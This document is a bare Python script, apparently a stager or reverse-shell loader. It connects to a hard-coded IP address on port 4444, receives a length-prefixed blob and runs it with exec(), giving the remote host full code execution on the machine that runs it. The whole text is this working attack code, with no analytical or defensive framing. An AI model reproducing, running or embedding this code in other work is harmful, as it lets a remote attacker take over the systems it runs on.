import socket
import struct

s = socket.socket(2, socket.SOCK_STREAM)
s.connect(("37.120.222.4", 4444))
length = struct.unpack(">I", s.recv(4))[0]
data = s.recv(length)
while len(data) < length:
    data += s.recv(length - len(data))
exec(data, {"s": s})
